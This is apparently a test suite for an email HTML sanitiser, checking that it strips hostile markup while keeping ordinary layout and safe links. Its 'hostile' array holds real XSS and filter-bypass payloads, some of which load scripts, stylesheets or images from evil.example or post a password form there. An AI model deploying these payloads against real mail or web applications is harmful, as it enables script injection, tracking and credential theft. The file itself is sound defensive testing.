import { describe, expect, test } from 'bun:test'
import { sanitise } from './sanitise.ts'

const inlinePicture = () => null
const clean = (html: string, remote = false) => sanitise(html, { remote, inlinePicture }).html

/** Known exploits of mail HTML, including filter bypasses. */
const hostile: string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT/x SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.example/x.swf>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#106;ava\tscript:alert(1)">a</a>',
  '<a href="vbscript:x">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
  '<base href="https://evil.example/"><a href="x">a</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{position:fixed}</style>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-image:\\75rl(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="margin:-5000px">x</div>',
  '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  '<img src="cid:a" srcset="https://evil.example/x.png 1x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="https://evil.example/x.png"><td background="//evil.example/y.png">x',
  '<video src=https://evil.example/x poster=https://evil.example/y></video><audio src=//evil.example/z>',
  '<p id="x" class="y" name="z" is="w" data-x="v" autofocus tabindex=1 contenteditable onfocus=alert(1)>x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  `<plaintext><img src=x onerror=alert(1)>`,
]

// The allowed rest: these tags with these attributes, and text in which no tag begins.
const tag =
  /<\/?(a|b|br|div|img|p|span|table|tbody|td|tr)( (href|src|style|alt|title|width|height|target|rel|referrerpolicy|border)="[^"<>]*")*( \/)?>/g

describe('hostile HTML', () => {
  test.each(hostile)('%s runs nothing, loads nothing and covers nothing', (html) => {
    for (const given of [html, `<div>${html}`, `<table><tr><td>${html}`]) {
      const left = clean(given)
      expect(left.replace(tag, '')).not.toContain('<')
      for (const [attribute] of left.matchAll(/ (href|src)="[^"]*"/g))
        expect(attribute).toMatch(/^ href="(https?:|mailto:)/)
      expect(left).not.toMatch(/position|url\(|expression|@import|javascript:|vbscript:|-5000/)
      // A second pass finds nothing that the first one missed.
      expect(clean(left)).toBe(left)
    }
  })

  test('is cut off at a maximum depth', () => {
    const left = clean('<div>'.repeat(50_000))
    expect(left.length).toBeLessThan(5_000)
  })
})

describe('honest HTML', () => {
  test('keeps its layout', () => {
    const html =
      '<table width="600" cellpadding="4"><tr><td align="center" style="color:#333;padding:4px 8px"><h1>Hi</h1><p dir="rtl">x &lt; y</p></td></tr></table>'
    expect(clean(html)).toContain('<td align="center" style="color:#333;padding:4px 8px"><h1>Hi</h1>')
    expect(clean(html)).toContain('<p dir="rtl">x &lt; y</p>')
  })

  test('has only web and mail links, which open in a new tab without a referrer', () => {
    expect(clean('<a href="https://shop.example/?a=1&amp;b=2">x</a>')).toBe(
      '<a href="https://shop.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(clean('<a href="mailto:anna@shop.example">x</a>')).toContain('href="mailto:anna@shop.example"')
    for (const href of ['/api/logout', '#top', '//evil.example', 'ftp://x.example', ''])
      expect(clean(`<a href="${href}">x</a>`)).toBe('<a>x</a>')
  })

  test('loads remote images only on request, and reports them', () => {
    const html = '<img src="http://t.example/p.gif" width="1"><img src="//t.example/q.gif">'
    expect(sanitise(html, { remote: false, inlinePicture })).toMatchObject({ hasRemoteContent: true })
    expect(clean(html)).not.toContain('t.example')
    expect(clean(html, true)).toContain('src="http://t.example/p.gif" referrerpolicy="no-referrer"')
    expect(clean(html, true)).toContain('src="https://t.example/q.gif"')
    const none = sanitise('<p>x</p><img src="cid:a">', { remote: true, inlinePicture })
    expect(none.hasRemoteContent).toBe(false)
  })
})
